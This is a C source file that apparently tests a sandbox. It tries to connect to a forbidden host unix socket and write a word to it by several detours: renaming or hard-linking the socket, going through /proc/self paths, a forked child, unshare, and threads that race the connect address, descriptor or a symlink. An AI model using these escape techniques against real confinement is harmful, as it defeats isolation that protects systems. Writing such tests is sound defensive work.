// Reaches a unix socket of the host by a detour and says the word. Arguments: HOW ADDRESS DIRECTORY WORD, where DIRECTORY may be written.
// move, link: under another name. cwd, descriptor: past its path. pass: by another process. address, socket, turn: a second thread changes
// what the connect means while it is checked. unshared: from a thread that does not share its process's descriptors.
#include "attack.h"
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>

#define SECONDS 2

static const char *how, *target, *directory, *word;
static char own[108]; // a listener of this program's own
static atomic_bool done;
static volatile struct sockaddr_un shared = {.sun_family = AF_UNIX};
static int talker;

static struct sockaddr_un address_of(const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  if (strlen(path) >= sizeof address.sun_path) {
    errno = ENAMETOOLONG;
    refused("address");
  }
  strcpy(address.sun_path, path);
  return address;
}

static int make_socket(void) {
  const int made = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (made < 0) refused("socket");
  return made;
}

static int reach(int from, const char *path) {
  const struct sockaddr_un address = address_of(path);
  return connect(from, (const struct sockaddr *)&address, sizeof address);
}

static void speak(int from) {
  if (write(from, word, strlen(word)) < 0) refused("write");
}

static int say(const char *path) {
  const int from = make_socket();
  if (reach(from, path) != 0) refused("connect");
  speak(from);
  return 0;
}

static int under_another_name(void) {
  char name[128];
  snprintf(name, sizeof name, "%s/moved.sock", directory);
  if ((strcmp(how, "move") == 0 ? rename(target, name) : link(target, name)) != 0) refused(how);
  return say(name);
}

static int past_its_path(void) {
  char path[128];
  char *slash = strrchr(target, '/');
  snprintf(path, sizeof path, "%.*s", (int)(slash - target), target);
  if (strcmp(how, "cwd") == 0) {
    if (chdir(path) != 0) refused("chdir");
    snprintf(path, sizeof path, "/proc/self/cwd%s", slash);
    return say(path);
  }
  const int fd = open(path, O_PATH | O_DIRECTORY);
  if (fd < 0) refused("open");
  snprintf(path, sizeof path, "/proc/self/fd/%d%s", fd, slash);
  return say(path);
}

static int by_another_process(void) {
  talker = make_socket();
  const pid_t child = fork(); // shares the open socket
  if (child == 0) _exit(reach(talker, target) == 0 ? 0 : 1);
  int status;
  if (waitpid(child, &status, 0) != child || status != 0) refused("connect");
  speak(talker);
  return 0;
}

static void *flip_address(void *unused) {
  (void)unused;
  while (!done) {
    for (size_t at = 0; at <= strlen(own); at++) shared.sun_path[at] = own[at];
    for (size_t at = 0; at <= strlen(target); at++) shared.sun_path[at] = target[at];
  }
  return NULL;
}

// The number of the talking socket means a TCP socket now and then, which may go anywhere.
static void *flip_socket(void *unused) {
  (void)unused;
  const int other = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  while (!done) {
    const int kept = dup(talker);
    dup2(other, talker);
    dup2(kept, talker);
    close(kept);
  }
  return NULL;
}

static void *flip_link(void *unused) {
  (void)unused;
  while (!done) {
    symlink(own, "one");
    rename("one", "turning");
    symlink(target, "one");
    rename("one", "turning");
  }
  return NULL;
}

static int heard(int server) {
  const int got = accept(server, NULL, NULL); // what reached the wrong one is thrown away
  if (got >= 0) close(got);
  return got >= 0;
}

static int race(void *(*flip)(void *)) {
  const int server = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  snprintf(own, sizeof own, "%s/own.sock", directory);
  const struct sockaddr_un here = address_of(own);
  if (server < 0 || bind(server, (const struct sockaddr *)&here, sizeof here) != 0 || listen(server, 8) != 0) refused("listen");
  if (chdir(directory) != 0) refused("chdir");
  strcpy((char *)shared.sun_path, target);
  talker = make_socket();
  pthread_t thread;
  pthread_create(&thread, NULL, flip, NULL);
  for (const time_t end = time(NULL) + SECONDS; time(NULL) < end;) {
    const int got = flip == flip_link ? reach(talker, "turning") : flip == flip_socket ? reach(talker, target) : connect(talker, (const struct sockaddr *)(const void *)&shared, sizeof shared);
    if (got != 0 || heard(server)) {
      const int fresh = make_socket();
      dup2(fresh, talker);
      close(fresh);
      continue;
    }
    if (write(talker, word, strlen(word)) > 0) break;
  }
  done = 1;
  pthread_join(thread, NULL);
  return 0;
}

static void *speak_unshared(void *unused) {
  (void)unused;
  if (unshare(CLONE_FILES) != 0) refused("unshare");
  say(target);
  return NULL;
}

static int from_another_thread(void) {
  pthread_t thread;
  pthread_create(&thread, NULL, speak_unshared, NULL);
  pthread_join(thread, NULL);
  return 0;
}

int main(int count, char **words) {
  attempting(count, 4);
  signal(SIGPIPE, SIG_IGN);
  how = words[1], target = words[2], directory = words[3], word = words[4];
  if (strcmp(how, "move") == 0 || strcmp(how, "link") == 0) return under_another_name();
  if (strcmp(how, "cwd") == 0 || strcmp(how, "descriptor") == 0) return past_its_path();
  if (strcmp(how, "pass") == 0) return by_another_process();
  if (strcmp(how, "address") == 0) return race(flip_address);
  if (strcmp(how, "socket") == 0) return race(flip_socket);
  return strcmp(how, "turn") == 0 ? race(flip_link) : from_another_thread();
}
